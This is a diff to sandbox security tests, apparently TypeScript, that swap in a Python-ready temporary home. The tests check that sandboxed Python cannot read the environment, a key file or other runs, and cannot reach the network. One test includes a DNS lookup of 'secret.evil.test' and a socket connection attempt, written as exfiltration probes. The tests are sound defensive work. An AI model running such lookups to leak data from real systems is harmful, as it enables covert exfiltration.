@@ -4,7 +4,7 @@ import { newId } from "../../src/core/id.ts";
 import type { JsonObject } from "../../src/core/json.ts";
 import { toGrant } from "../../src/run.ts";
 import { valueOf } from "../support/door.ts";
-import { tempFolder } from "../support/temp.ts";
+import { tempHomeWithPython } from "../support/python.ts";
 
 /** Python that tries each expression and answers what came of it; null stands for a failure. */
 const tried = (...expressions: readonly string[]): string => `
@@ -16,7 +16,7 @@ def attempt(act):
 
 describe("code in the sandbox, under the operator's grant", () => {
   test("sees no environment, no process, no home and no other run (B12)", async () => {
-    await using home = await tempFolder();
+    await using home = await tempHomeWithPython();
     await using app = await openApp({ home: home.path });
     const ask = (args: JsonObject) => run(app, args);
     const key = JSON.stringify(`${home.path}/key.json`);
@@ -40,7 +40,7 @@ describe("code in the sandbox, under the operator's grant", () => {
   });
 
   test("sends no name out to be resolved (B11)", async () => {
-    await using home = await tempFolder();
+    await using home = await tempHomeWithPython();
     await using app = await openApp({ home: home.path });
     const name = 'socket.gethostbyname("secret.evil.test")';
     const connect = 'socket.create_connection(("127.0.0.1", 9), 1)';
